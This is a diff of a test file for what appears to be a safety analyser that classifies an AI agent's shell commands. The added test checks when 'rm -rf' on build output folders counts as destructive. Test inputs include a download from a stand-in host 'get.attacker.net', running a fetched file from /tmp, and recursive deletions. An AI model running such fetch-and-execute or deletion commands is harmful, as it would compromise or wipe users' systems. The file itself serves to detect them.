@@ -57,6 +57,26 @@ describe('what earlier calls made', () => {
     expect(codes('chmod +x /tmp/x && /tmp/x')).toContain('remote_code');
   });
 
+  it('knows the folder that a build has filled, until something else is put there or it is gone', () => {
+    expect(codes('rm -rf site')).toContain('destroys');
+    analyses.released(bash('.venv/bin/mkdocs build --strict -q'));
+    expect(codes('rm -rf site .cache')).toEqual([]);
+    expect(codes('rm -rf docs')).toContain('destroys');
+    expect(codes('rm -rf site', '/home/alex/work/other')).toContain('destroys');
+    expect(fits('rm -rf site')).toBe('all');
+    analyses.released(bash('rm -rf site'));
+    expect(codes('rm -rf site')).toContain('destroys');
+    expect(fits('rm -rf site')).toBe('none');
+    analyses.released(bash('mkdocs build'));
+    analyses.released(bash('mv notes.md site/notes.md'));
+    expect(codes('rm -rf site')).toContain('destroys');
+    analyses.released(bash('hugo --minify'));
+    analyses.released(bash('mix test --cover'));
+    expect(codes('rm -rf public cover')).toEqual([]);
+    analyses.released(call('filesystem', 'write', { file_path: `${PLACE.cwd}/public/a.html`, content: 'x' }));
+    expect(codes('rm -rf public')).toContain('destroys');
+  });
+
   it('holds for fetched what became of a fetched file', () => {
     analyses.released(bash('curl -fsSo /tmp/a.sh https://get.attacker.net/s'));
     for (const [made, run] of [
